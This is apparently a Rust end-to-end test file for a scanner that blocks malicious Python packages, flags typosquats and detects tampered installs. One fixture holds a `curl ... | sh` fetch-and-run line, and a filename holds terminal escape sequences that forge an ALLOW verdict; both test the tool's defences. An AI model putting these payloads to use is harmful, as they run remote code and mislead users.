//! End-to-end tests of the real binary on fixture packages built by the tests.

mod common;

use common::*;

#[test]
fn malicious_canary_is_blocked_with_exit_1_and_benign_is_allowed() {
    let dir = tempfile::tempdir().unwrap();
    let bad = sdist(dir.path(), "canary-pkg", "1.0", &[("setup.py", CANARY_SETUP)]);
    let good = sdist(dir.path(), "tidy-numbers", "1.0", &[("setup.py", BENIGN_SETUP), ("tidy_numbers/__init__.py", BENIGN_MODULE)]);

    let (code, out, _) = run(&["scan", bad.to_str().unwrap()]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("BLOCK") && out.contains("install-network") && out.contains("setup.py:"), "{out}");

    let (code, out, _) = run(&["scan", good.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("ALLOW"), "{out}");
}

#[test]
fn json_report_has_versioned_schema_and_points_at_the_line() {
    let dir = tempfile::tempdir().unwrap();
    sdist(dir.path(), "canary-pkg", "1.0", &[("setup.py", CANARY_SETUP)]);
    sdist(dir.path(), "tidy-numbers", "1.0", &[("setup.py", BENIGN_SETUP)]);
    let (code, out, _) = run(&["scan", "--format", "json", dir.path().to_str().unwrap()]);
    assert_eq!(code, 1);
    let v: serde_json::Value = serde_json::from_str(&out).expect("valid JSON");
    assert_eq!(v["schema_version"], 2);
    assert_eq!(v["summary"]["packages"], 2);
    assert_eq!(v["summary"]["blocked"], 1);
    let bad = v["packages"].as_array().unwrap().iter().find(|p| p["filename"] == "canary-pkg-1.0.tar.gz").unwrap();
    assert_eq!(bad["verdict"], "block");
    assert_eq!(bad["level"], "critical");
    assert_eq!(bad["basis"]["kind"], "severity-rule", "{}", bad["basis"]);
    assert_eq!((&bad["basis"]["severity"], &bad["basis"]["action"], &bad["basis"]["origin"]["layer"]), (&"critical".into(), &"block".into(), &"default".into()));
    assert!(bad["reason"].as_str().unwrap().contains(bad["basis"]["alert"].as_str().unwrap()), "{bad}");
    let alert = bad["alerts"].as_array().unwrap().iter().find(|a| a["id"] == "install-network").expect("install-network alert");
    assert_eq!(alert["file"], "canary-pkg-1.0/setup.py");
    assert_eq!(alert["line"], 9);
    assert_eq!(alert["context"], "install");
}

#[test]
fn usage_errors_exit_2_with_a_hint() {
    let (code, _, err) = run(&["scan", "/definitely/not/here.tar.gz"]);
    assert_eq!(code, 2);
    assert!(err.contains("error:") && err.contains("hint:"), "{err}");
    let (code, _, err) = run(&["explain", "install-netwrk"]);
    assert_eq!(code, 2);
    assert!(err.contains("did you mean `install-network`"), "{err}");
    let (code, _, _) = run(&["frobnicate"]);
    assert_eq!(code, 2);
}

#[test]
fn explain_prints_the_catalogue_entry() {
    let (code, out, _) = run(&["explain", "decode-exec"]);
    assert_eq!(code, 0);
    assert!(out.contains("critical") && out.contains("What to do:"), "{out}");
}

#[test]
fn vet_offline_names_the_intended_projects_and_never_passes_unchecked_names() {
    let (code, out, _) = run(&["vet", "--offline", "djang0", "reqests", "requestss", "django-rest"]);
    assert_eq!(code, 1, "{out}");
    for (squat, target) in [("djang0", "django"), ("reqests", "requests"), ("requestss", "requests"), ("django-rest", "djangorestframework")] {
        assert!(out.contains(&format!("Use `{target}` instead")) && out.contains(squat), "{squat} → {target}:\n{out}");
    }
    let (code, out, _) = run(&["vet", "--offline", "--format", "json", "flask"]);
    assert_eq!(code, 3, "unverified is exit 3: {out}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["packages"][0]["verdict"], "unverified");
    let (code, _, err) = run(&["vet", "requests>=2"]);
    assert_eq!(code, 2);
    assert!(err.contains("hint:"), "{err}");
}

#[test]
fn vet_internal_rules_are_validated_from_flag_and_environment() {
    let (code, _, err) = run(&["vet", "--offline", "--internal", "acme-*=ftp://x/", "acme-utils"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("acme-*") && err.contains("hint:"), "{err}");
    let env = Env::new();
    let out = env.command(&["vet", "--offline", "acme-utils"]).env("SAFE_PIP_INTERNAL", "acme-*,bad name").output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("bad name") && err.contains("SAFE_PIP_INTERNAL"), "{err}");
    // Valid rules are accepted (offline: the name is only checked, never passed).
    let (code, out, _) = run(&["vet", "--offline", "--internal", "acme-*,corp-utils=https://pypi.corp.example/simple/", "acme-utils"]);
    assert_eq!(code, 3, "{out}");
}

/// What users read: the terminal report of one blocked and one clean package.
#[test]
fn terminal_report_snapshot() {
    let dir = tempfile::tempdir().unwrap();
    sdist(dir.path(), "canary-pkg", "1.0", &[("setup.py", CANARY_SETUP)]);
    sdist(dir.path(), "tidy-numbers", "1.0", &[("setup.py", BENIGN_SETUP), ("tidy_numbers/__init__.py", BENIGN_MODULE)]);
    let (code, out, _) = run(&["scan", dir.path().to_str().unwrap()]);
    assert_eq!(code, 1);
    insta::assert_snapshot!(out);
}

#[test]
fn hostile_member_names_reach_the_terminal_escaped_and_json_exact() {
    // #14: this member name would retitle the window, go up a line, erase it and print
    // a fake ALLOW over the BLOCK line
    let evil = "canary_pkg/evil\x1b]0;PWNED\x07\x1b[1A\x1b[2K\rALLOW  fake\x1b[8m.py";
    let dir = tempfile::tempdir().unwrap();
    let pkg_info = "Metadata-Version: 2.1\nName: canary-pkg\nVersion: 1.0\x1b[2K\r\nSummary: fixture\n";
    let bad = sdist(dir.path(), "canary-pkg", "1.0", &[("setup.py", CANARY_SETUP), ("PKG-INFO", pkg_info), (evil, "import os\nos.system('curl http://127.0.0.1:9/x | sh')\n")]);
    for flags in [&["scan"][..], &["scan", "--verbose"][..]] {
        let (code, out, err) = run(&[flags, &[bad.to_str().unwrap()]].concat());
        assert_eq!(code, 1, "{out}{err}");
        for text in [&out, &err] {
            assert!(!text.bytes().any(|b| matches!(b, 0x1b | 0x0d | 0x07)), "{text:?}");
        }
        assert!(out.contains("BLOCK") && out.contains("evil\\x1b]0;PWNED\\x07\\x1b[1A\\x1b[2K\\rALLOW  fake\\x1b[8m.py"), "{out}");
    }
    let (_, out, _) = run(&["scan", "--format", "json", bad.to_str().unwrap()]);
    let v: serde_json::Value = serde_json::from_str(&out).expect("valid JSON");
    let files: Vec<&str> = v["packages"][0]["alerts"].as_array().unwrap().iter().filter_map(|a| a["file"].as_str()).collect();
    assert!(files.contains(&format!("canary-pkg-1.0/{evil}").as_str()), "JSON keeps the name exact: {files:?}");
}

#[cfg(unix)]
#[test]
fn check_refuses_special_files_oversized_files_and_does_not_echo_other_files() {
    // #14: `/dev/zero` was read forever, a FIFO blocked, a .env file was echoed
    let env = Env::new();
    let (code, out, err) = env.run(&["check", "/dev/zero"]);
    assert_eq!(code, 2, "{out}{err}");
    assert!(err.contains("a character device, not a regular file"), "{err}");

    let fifo = env.dir.path().join("requirements.txt");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0, "mkfifo");
    let child = env.command(&["check", fifo.to_str().unwrap()]).stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped()).spawn().unwrap();
    // a hang guard, not a timing assertion: if the read blocks, a writer releases it
    let (tx, rx) = std::sync::mpsc::channel();
    let path = fifo.clone();
    std::thread::spawn(move || {
        if rx.recv_timeout(std::time::Duration::from_secs(60)).is_err() {
            let _ = std::fs::OpenOptions::new().write(true).open(path);
        }
    });
    let done = child.wait_with_output().unwrap();
    let _ = tx.send(());
    let err = String::from_utf8_lossy(&done.stderr);
    assert_eq!(done.status.code(), Some(2), "{err}");
    assert!(err.contains("a FIFO (named pipe), not a regular file"), "{err}");

    let big = env.dir.path().join("big-requirements.txt");
    std::fs::File::create(&big).unwrap().set_len(16 * 1024 * 1024 + 1).unwrap();
    let (code, _, err) = env.run(&["check", big.to_str().unwrap()]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("larger than the limit of 16 MiB"), "{err}");

    let secret = "s3cr3t-value-never-printed";
    let dotenv = env.write("env-requirements.txt", &format!("six==1.16.0\nAPI_TOKEN={secret}\nDATABASE_URL=postgres://u:{secret}@db/x\n"));
    let (code, out, err) = env.run(&["check", dotenv.to_str().unwrap()]);
    assert_eq!(code, 2, "{out}{err}");
    assert!(err.contains("line 2 is not a requirement"), "{err}");
    assert!(!out.contains(secret) && !err.contains(secret) && !err.contains("API_TOKEN"), "{out}{err}");
}

/// `audit` through the real binary on a site-packages folder written here: a module
/// edited after install is reported (exit 1); `--allow-unverified` on an intact one passes.
#[test]
fn audit_reports_a_file_changed_after_install() {
    use base64::Engine;
    use sha2::Digest;
    let env = Env::new();
    let b64 = |c: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(c.as_bytes()));
    let (module, meta) = ("X = 1\n", "Metadata-Version: 2.1\nName: tidy-numbers\nVersion: 1.0\nLicense-Expression: MIT\n");
    env.write("site/tidy_numbers/__init__.py", module);
    env.write("site/tidy_numbers-1.0.dist-info/METADATA", meta);
    env.write(
        "site/tidy_numbers-1.0.dist-info/RECORD",
        &format!("tidy_numbers/__init__.py,sha256={},{}\ntidy_numbers-1.0.dist-info/METADATA,sha256={},{}\ntidy_numbers-1.0.dist-info/RECORD,,\n", b64(module), module.len(), b64(meta), meta.len()),
    );
    let site = env.dir.path().join("site");
    let (code, out, err) = env.run(&["audit", "--site-packages", s(&site), "--allow-unverified"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("0 tampered") && out.contains("1 unverified"), "{out}");

    env.write("site/tidy_numbers/__init__.py", "X = 2\n");
    let (code, out, err) = env.run(&["audit", "--site-packages", s(&site), "--allow-unverified"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains("TAMPERED   tidy-numbers 1.0") && out.contains("tidy_numbers/__init__.py  changed since install"), "{out}");
    let (code, out, _) = env.run(&["audit", "--site-packages", s(&env.dir.path().join("nowhere"))]);
    assert_eq!(code, 2, "{out}");
}

/// `report` through the real binary: no evidence is an error with what to do; after a scan
/// the DB holds it and the Markdown names where to send it.
#[test]
fn report_needs_evidence_and_then_prepares_the_markdown() {
    let env = Env::new();
    let (code, _, err) = env.run(&["report", "canary-pkg==1.0"]);
    assert_eq!(code, 2);
    assert!(err.contains("no evidence about canary-pkg 1.0") && err.contains("--file"), "{err}");
    let (code, _, err) = env.run(&["report", "canary-pkg"]);
    assert_eq!(code, 2, "{err}");
    let dist = env.dir.path().join("dist");
    std::fs::create_dir_all(&dist).expect("mkdir");
    let canary = sdist(&dist, "canary-pkg", "1.0", &[("setup.py", CANARY_SETUP)]);
    let (code, out, err) = env.run(&["report", "canary-pkg==1.0", "--file", s(&canary)]);
    assert_eq!(code, 0, "{err}");
    assert!(out.starts_with("# Malware report: `canary-pkg` `1.0`") && out.contains("https://pypi.org/project/canary-pkg/"), "{out}");
    assert!(out.contains("`install-network`"), "{out}");
    let (code, out, _) = env.run(&["report", "canary-pkg==1.0"]);
    assert_eq!(code, 0);
    assert!(out.contains("from the verdicts in its verdict DB"), "{out}");
}
